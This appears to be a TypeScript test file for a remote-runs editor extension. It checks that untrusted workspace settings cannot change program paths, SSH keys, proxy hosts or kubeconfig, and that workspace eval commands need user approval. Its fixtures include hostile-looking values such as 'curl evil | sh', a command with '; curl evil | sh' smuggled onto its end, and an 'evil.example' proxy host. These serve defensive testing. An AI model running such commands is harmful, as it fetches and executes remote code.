/** What a workspace may set, what is ignored and said, and the yes-once rule for workspace eval profiles. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  consentDetail,
  describeIgnored,
  effectiveLevel,
  hostsSetting,
  ignoredInWorkspaceFile,
  needsConsent,
  profileFingerprint,
  userLevelValue,
  withApproval,
} from '../../src/core/settingsTrust';
import { parseEvalProfiles } from '../../src/core/eval/profiles';
import { parseHostsSetting } from '../../src/core/config';
import { parseJsonc } from '../../src/core/util/jsonc';

test('a machine setting is read from user settings only; a workspace value it saw is reported, never used', () => {
  const r = userLevelValue('remoteRuns.sshPath', { defaultValue: '', globalValue: '/usr/bin/ssh', workspaceValue: '/tmp/canary.sh' });
  assert.equal(r.value, '/usr/bin/ssh');
  assert.equal(r.ignored.length, 1);
  assert.equal(r.ignored[0].setting, 'remoteRuns.sshPath');
  assert.match(r.ignored[0].reason, /program/);
  // No user value: the default, still not the workspace's.
  assert.equal(userLevelValue('remoteRuns.sshPath', { defaultValue: '', workspaceFolderValue: '/tmp/x' }).value, '');
  assert.deepEqual(userLevelValue('remoteRuns.sshPath', { defaultValue: '', globalValue: 'ssh' }).ignored, []);
  assert.equal(userLevelValue('remoteRuns.sshPath', undefined).value, undefined);
});

test('a window setting answers from the most specific level set, and says which', () => {
  assert.deepEqual(effectiveLevel({ defaultValue: 1 }), { value: 1, origin: 'default' });
  assert.deepEqual(effectiveLevel({ defaultValue: 1, globalValue: 2 }), { value: 2, origin: 'user' });
  assert.deepEqual(effectiveLevel({ defaultValue: 1, globalValue: 2, workspaceValue: 3 }), { value: 3, origin: 'workspace' });
  assert.deepEqual(effectiveLevel({ globalValue: 2, workspaceValue: 3, workspaceFolderValue: 4 }), { value: 4, origin: 'workspace' });
});

test('workspace hosts keep their names and addresses but lose identityFile and proxyJump, each reported', () => {
  const r = hostsSetting({
    defaultValue: [],
    globalValue: [{ name: 'mine', host: 'a', identityFile: '~/.ssh/mine' }],
    workspaceValue: [{ name: 'gpu', host: 'gpu.lab', user: 'me', identityFile: ['/k1', '/k2'], proxyJump: 'evil.example' }, { name: 'plain', host: 'b' }, 'junk'],
  });
  assert.equal(r.origin, 'workspace');
  const { hosts } = parseHostsSetting(r.value, 'remoteRuns.hosts');
  assert.deepEqual(hosts.map((h) => [h.name, h.host, h.user, h.identityFile, h.proxyJump]), [
    ['gpu', 'gpu.lab', 'me', undefined, undefined],
    ['plain', 'b', undefined, undefined, undefined],
  ]);
  assert.deepEqual(r.ignored.map((i) => i.setting), ['remoteRuns.hosts[0].identityFile (gpu)', 'remoteRuns.hosts[0].proxyJump (gpu)']);
  // The bad entry is left for the parser to report, not dropped here in silence.
  assert.equal((r.value as unknown[])[2], 'junk');
});

test('user hosts keep identityFile and proxyJump', () => {
  const r = hostsSetting({ globalValue: [{ name: 'mine', host: 'a', identityFile: '~/.ssh/mine', proxyJump: 'bastion' }] });
  assert.equal(r.origin, 'user');
  assert.deepEqual(r.ignored, []);
  assert.deepEqual(r.value, [{ name: 'mine', host: 'a', identityFile: '~/.ssh/mine', proxyJump: 'bastion' }]);
});

test('a workspace settings file: machine settings always ignored, other restricted ones only when untrusted', () => {
  const contents = {
    'remoteRuns.sshPath': '/tmp/canary.sh',
    'remoteRuns.knownHostsFiles': ['/tmp/evil_known_hosts'],
    'remoteRuns.evalProfiles': [{ name: 'x', command: 'curl evil | sh', where: 'local' }],
    'remoteRuns.refreshIntervalSeconds': 5,
  };
  const trusted = ignoredInWorkspaceFile('.vscode/settings.json of repo', contents, true);
  assert.deepEqual(trusted.map((i) => i.setting), ['remoteRuns.sshPath', 'remoteRuns.knownHostsFiles']);
  const untrusted = ignoredInWorkspaceFile('.vscode/settings.json of repo', contents, false);
  assert.deepEqual(untrusted.map((i) => i.setting), ['remoteRuns.sshPath', 'remoteRuns.knownHostsFiles', 'remoteRuns.evalProfiles']);
  assert.match(untrusted[2].reason, /not trusted/);
  const lines = describeIgnored(trusted);
  assert.match(lines[0], /^remoteRuns\.sshPath \(in \.vscode\/settings\.json of repo\) ignored: names a program/);
  for (const bad of [null, 'x', [1], 3]) assert.deepEqual(ignoredInWorkspaceFile('f', bad, false), []);
});

test('settings files with comments and trailing commas are read; a broken one is an error, never a throw', () => {
  const text = `// settings\n{\n  "remoteRuns.sshPath": "/tmp/a//b", /* the canary */\n  "x": ["//", "a\\"b",],\n}\n`;
  assert.deepEqual(parseJsonc(text), { value: { 'remoteRuns.sshPath': '/tmp/a//b', x: ['//', 'a"b'] } });
  assert.deepEqual(parseJsonc(''), { value: {} });
  assert.deepEqual(parseJsonc('  // only a comment\n'), { value: {} });
  assert.ok('error' in parseJsonc('{"a": '));
  assert.ok('error' in parseJsonc('{ /* open'));
  fc.assert(fc.property(fc.string(), (s) => {
    const r = parseJsonc(s);
    return 'value' in r || typeof r.error === 'string';
  }));
  // Any JSON value survives the trip.
  fc.assert(fc.property(fc.jsonValue(), (v) => {
    const r = parseJsonc(JSON.stringify(v, null, 2));
    assert.ok('value' in r);
    assert.deepEqual(r.value, JSON.parse(JSON.stringify(v)));
  }));
});

const profile = (over: Record<string, unknown> = {}) => {
  const { profiles, problems } = parseEvalProfiles([{ name: 'acc', where: 'local', command: 'python eval.py ${localCheckpoint}', ...over }]);
  assert.deepEqual(problems, []);
  return profiles[0];
};

test('a workspace profile needs a yes once per content; user profiles need none', () => {
  const p = profile();
  assert.equal(needsConsent(p, 'user', []), false);
  assert.equal(needsConsent(p, 'default', []), false);
  assert.equal(needsConsent(p, 'workspace', []), true);
  const approved = withApproval([], p);
  assert.equal(needsConsent(p, 'workspace', approved), false);
  // The same profile read again (another object, same content) stays approved.
  assert.equal(needsConsent(profile(), 'workspace', approved), false);
  // A changed command, cwd, env, place or sbatch option asks again.
  for (const over of [{ command: 'python eval.py ${localCheckpoint}; curl evil | sh' }, { cwd: '/tmp' }, { env: { A: '1' } }, { where: 'target' }, { scheduler: 'slurm', sbatch: ['--x'] }]) {
    assert.equal(needsConsent(profile(over), 'workspace', approved), true, JSON.stringify(over));
  }
  // The result pattern only reads output: changing it does not ask again.
  assert.equal(needsConsent(profile({ resultPattern: 'acc=(?<acc>[0-9.]+)' }), 'workspace', approved), false);
});

test('fingerprints do not depend on env key order; approvals do not repeat and are bounded', () => {
  assert.equal(profileFingerprint(profile({ env: { A: '1', B: '2' } })), profileFingerprint(profile({ env: { B: '2', A: '1' } })));
  const p = profile();
  assert.deepEqual(withApproval(withApproval([], p), p), [profileFingerprint(p)]);
  const many = Array.from({ length: 5 }, (_, i) => profile({ command: `x${i}` }));
  const list = many.reduce<string[]>((acc, q) => withApproval(acc, q, 3), []);
  assert.deepEqual(list, many.slice(2).map(profileFingerprint));
});

test('the question shows where it runs and the command line exactly as written', () => {
  const d = consentDetail(profile({ cwd: '~/evals', env: { CUDA_VISIBLE_DEVICES: '0' } }));
  assert.match(d, /runs on this machine, as you/);
  assert.ok(d.includes('\npython eval.py ${localCheckpoint}\n'));
  assert.match(d, /in: ~\/evals/);
  assert.match(d, /env: CUDA_VISIBLE_DEVICES=0/);
  assert.match(consentDetail(profile({ where: 'gpu2/pct:300', command: 'x' })), /on gpu2\/pct:300, with your login/);
});

test('a workspace cluster entry loses its kubeconfig (kubectl runs its credential plugins), said once', () => {
  const r = hostsSetting({ workspaceValue: [{ name: 'prod', kind: 'kubernetes', context: 'c', kubeconfig: '/tmp/evil-kubeconfig' }] });
  assert.deepEqual(r.value, [{ name: 'prod', kind: 'kubernetes', context: 'c' }]);
  assert.equal(r.ignored.length, 1);
  assert.equal(r.ignored[0].setting, 'remoteRuns.hosts[0].kubeconfig (prod)');
  assert.match(r.ignored[0].reason, /credential plugins kubectl runs: set it in your user settings$/);
  // The user's own keeps it.
  assert.deepEqual(hostsSetting({ globalValue: [{ name: 'prod', kind: 'kubernetes', context: 'c', kubeconfig: '~/k' }] }).ignored, []);
});

test('remoteRuns.kubectlPath is read from user settings only, and a workspace file naming it is reported', () => {
  const r = userLevelValue('remoteRuns.kubectlPath', { defaultValue: '', globalValue: '/usr/local/bin/kubectl', workspaceValue: '/tmp/canary.sh' });
  assert.equal(r.value, '/usr/local/bin/kubectl');
  assert.equal(r.ignored[0].setting, 'remoteRuns.kubectlPath');
  const found = ignoredInWorkspaceFile('.vscode/settings.json of repo', { 'remoteRuns.kubectlPath': '/tmp/canary.sh' }, true);
  assert.deepEqual(found.map((i) => i.setting), ['remoteRuns.kubectlPath']);
  assert.match(found[0].reason, /names the program that every command in a Kubernetes cluster runs: only your user settings can set it/);
});
